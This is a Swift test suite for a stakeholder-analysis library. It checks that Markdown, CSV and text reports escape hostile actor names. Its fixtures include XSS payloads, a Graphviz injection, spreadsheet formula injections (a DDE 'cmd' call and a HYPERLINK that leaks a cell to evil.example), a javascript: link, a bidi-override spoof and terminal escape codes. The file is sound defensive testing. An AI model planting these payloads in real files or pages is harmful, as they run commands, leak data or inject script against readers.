import Foundation
import Testing
@testable import StakeholderCore

/// Untrusted names and quotes in the Markdown, CSV and plain-text reports.
@Suite struct HostileTextTests {
    static let names: [String] = [
        "\"];\n a -> b [label=\"x",
        "<script>alert(1)</script>",
        "=HYPERLINK(\"http://evil.example/?\"&A1,\"clic\")",
        "+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(1+1)",
        "\u{202E}acinumoC\u{202C} del \u{200F}Río\u{200F}",
        "[clic](javascript:alert(1)) ![x](http://evil.example/x.png)",
        "# Título\n## falso | tabla |\n1. lista",
        "<img src=x onerror=alert(1)>",
        "\u{1B}[31mrojo\u{1B}[0m\r\nsegunda línea",
        String(repeating: "Comunidad Campesina Ayllu Llaqta ", count: 61).prefix(2000).description,
    ]

    /// Each hostile actor (a community) files a grievance against the next one (a company),
    /// quoting its own name as evidence, in a document named after it.
    static func graph() -> StakeholderGraph {
        var graph = StakeholderGraph()
        for (i, name) in names.enumerated() {
            graph.addActorKeepingID(Actor(id: "a\(i)", name: name, kind: .group, type: i % 2 == 0 ? .community : .company))
        }
        for i in stride(from: 0, to: names.count - 1, by: 2) {
            graph.addRelation(.grievance, from: "a\(i)", to: "a\(i + 1)", evidence: [
                Evidence(document: names[i + 1], date: "2026-03-0\(i % 9 + 1)", text: names[i], start: 0,
                         end: names[i].unicodeScalars.count, rule: "test"),
            ])
        }
        return graph
    }

    @Test func grievanceMarkdownKeepsEveryNameInItsCellOrHeading() {
        let report = Self.graph().grievanceReport(asOf: nil)
        let markdown = report.formattedByActor(.markdown) + report.formatted(.markdown)
        let lines = markdown.split(separator: "\n", omittingEmptySubsequences: false)
        // Headings: the two titles and one per record; nothing else starts a heading or list.
        #expect(lines.filter { $0.hasPrefix("# ") }.count == 2)
        #expect(lines.filter { $0.hasPrefix("## ") }.count == report.records.count)
        #expect(!lines.contains { $0.hasPrefix("1.") || $0.hasPrefix("- ") || $0.hasPrefix("<") })
        // Table rows keep their six columns: every other pipe is escaped.
        for row in lines where row.hasPrefix("| ") && !row.hasPrefix("| Actor") {
            let unescaped = row.indices.filter { row[$0] == "|" && (row.startIndex == $0 || row[row.index(before: $0)] != "\\") }
            #expect(unescaped.count == 7, "\(row)")
        }
        for raw in ["<script", "<img", "\u{202E}", "\u{1B}", "\r"] {
            #expect(!markdown.contains(raw), "\(raw)")
        }
        // Brackets are escaped, so no link or image can form.
        #expect(!markdown.replacingOccurrences(of: "\\]", with: "").contains("]"))
        #expect(!markdown.replacingOccurrences(of: "\\[", with: "").contains("["))
        #expect(markdown.contains("&lt;script&gt;alert(1)&lt;/script&gt;"))
        #expect(markdown.contains(String(repeating: "Comunidad Campesina Ayllu Llaqta ", count: 50)))
    }

    @Test func reportCSVCellsNeverStartAFormula() {
        let graph = Self.graph()
        let report = graph.grievanceReport(asOf: nil)
        let centrality = graph.centrality(CentralityMetric.allCases, options: CentralityOptions()).formatted(.csv)
        for csv in [report.formatted(.csv), report.formattedByActor(.csv), centrality,
                    KumuCSVWriter.actorsCSV(for: graph), KumuCSVWriter.relationsCSV(for: graph)] {
            let cells = Self.cells(ofCSV: csv)
            #expect(cells.count > 10)
            for cell in cells {
                if let first = cell.unicodeScalars.first, "=+-@\t\r".unicodeScalars.contains(first) {
                    #expect(Double(cell) != nil, "\(cell)")
                }
            }
            #expect(cells.contains("'=HYPERLINK(\"http://evil.example/?\"&A1,\"clic\")"))
        }
    }

    @Test func explanationAndTablesKeepOneLinePerItem() throws {
        let graph = Self.graph()
        let text = try #require(graph.explanation(of: "a0", and: "a1"))
        let lines = text.split(separator: "\n", omittingEmptySubsequences: false)
        #expect(lines.filter { $0.hasPrefix("    [") }.count == 1)
        #expect(lines.filter { $0.hasPrefix("  names: ") }.count == 2)
        #expect(!text.contains("\u{1B}") && !text.contains("\u{202E}") && !text.contains("\r"))
        let table = graph.grievanceReport(asOf: nil).formatted(.table)
        #expect(table.split(separator: "\n").count == 2 + graph.grievanceReport(asOf: nil).records.count)
    }

    /// The cells of RFC 4180 text (quoted cells unquoted).
    static func cells(ofCSV csv: String) -> [String] {
        var cells: [String] = []
        var cell = ""
        var quoted = false
        var iterator = Array(csv.unicodeScalars).makeIterator()
        var pending: Unicode.Scalar? = nil
        while let c = pending ?? iterator.next() {
            pending = nil
            if quoted {
                if c == "\"" {
                    if let next = iterator.next() {
                        if next == "\"" { cell += "\"" } else { quoted = false; pending = next }
                    } else { quoted = false }
                } else { cell.unicodeScalars.append(c) }
            } else if c == "\"" && cell.isEmpty {
                quoted = true
            } else if c == "," || c == "\n" {
                cells.append(cell); cell = ""
            } else if c != "\r" {
                cell.unicodeScalars.append(c)
            }
        }
        if !cell.isEmpty { cells.append(cell) }
        return cells
    }
}
